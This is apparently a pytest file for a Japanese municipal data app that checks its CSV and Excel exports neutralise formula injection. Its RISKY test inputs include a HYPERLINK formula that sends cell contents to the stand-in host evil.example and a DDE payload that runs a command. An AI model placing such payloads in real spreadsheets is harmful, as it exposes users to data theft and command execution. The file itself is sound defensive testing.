"""Downloaded tables cannot carry formulas: text that Excel would run stays text.

kawasaki/spreadsheet.py writes every CSV and Excel file of the app and the command line
(a static check below keeps it the only writer). Read back as Excel and a CSV reader
see them: in the workbook formula-like text is a text cell (type ``s``, quote prefix),
never a formula; in the spreadsheet CSV it starts with ``'``; numbers stay numbers, and
text that is just a number or uses ▲ is untouched.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kawasaki.spreadsheet import csv_bytes, data_csv_bytes, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]

RISKY = [
    '=HYPERLINK("https://evil.example/?x="&A1,"詳しくはこちら")',
    "=1+1",
    "+81-44-200-2111",
    "-3 people",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]
SAFE_TEXT = ["-3", "-1,200", "+2.5", "-3%", "▲35.0", "△1.2", "a=b", "川崎区", ""]


@pytest.fixture
def table() -> pd.DataFrame:
    text = RISKY + SAFE_TEXT
    return pd.DataFrame(
        {
            "text": text,
            "number": [-3.5, -3, 0, 1200, None, *range(len(text) - 5)],
            "=header": ["x"] * len(text),
        }
    )


def test_xlsx_stores_text_as_text_and_numbers_as_numbers(table):
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "kpis"))).active
    cells = {c.value: c for c in next(sheet.iter_cols(min_col=1, max_col=1, min_row=2))}
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], "a formula"
    for value in RISKY + [v for v in SAFE_TEXT if v]:
        cell = cells[value.replace("\r", "\n")]  # the exact text, not prefixed (XML reads CR as LF)
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.quotePrefix == (value in RISKY), value
    numbers = [c.value for c in next(sheet.iter_cols(min_col=2, max_col=2, min_row=2, max_row=4))]
    assert numbers == [-3.5, -3, 0] and all(
        c.data_type == "n" for c in next(sheet.iter_cols(min_col=2, max_col=2, min_row=2, max_row=4))
    )
    assert sheet["C1"].value == "=header" and sheet["C1"].data_type == "s"


def test_spreadsheet_csv_prefixes_formula_like_text(table):
    data = csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM, for Excel"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text", "number", "'=header"]
    texts = [r[0] for r in rows[1:]]
    assert texts == ["'" + v for v in RISKY] + SAFE_TEXT
    assert [r[1] for r in rows[1:4]] == ["-3.5", "-3.0", "0.0"], "numbers as numbers, minus readable"


def test_machine_csv_keeps_every_value_exactly(table):
    data = data_csv_bytes(table)
    assert not data.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(io.BytesIO(data), keep_default_na=False, dtype=str)
    assert list(frame["text"]) == RISKY + SAFE_TEXT


def test_spreadsheet_py_is_the_only_writer_of_spreadsheets():
    """No other module of the app or the command line makes CSV or xlsx bytes itself."""
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|import openpyxl|csv\.writer\(")
    offenders = [
        str(p.relative_to(ROOT))
        for p in [ROOT / "app.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "kawasaki").rglob("*.py")]
        if p.name != "spreadsheet.py" and pattern.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []
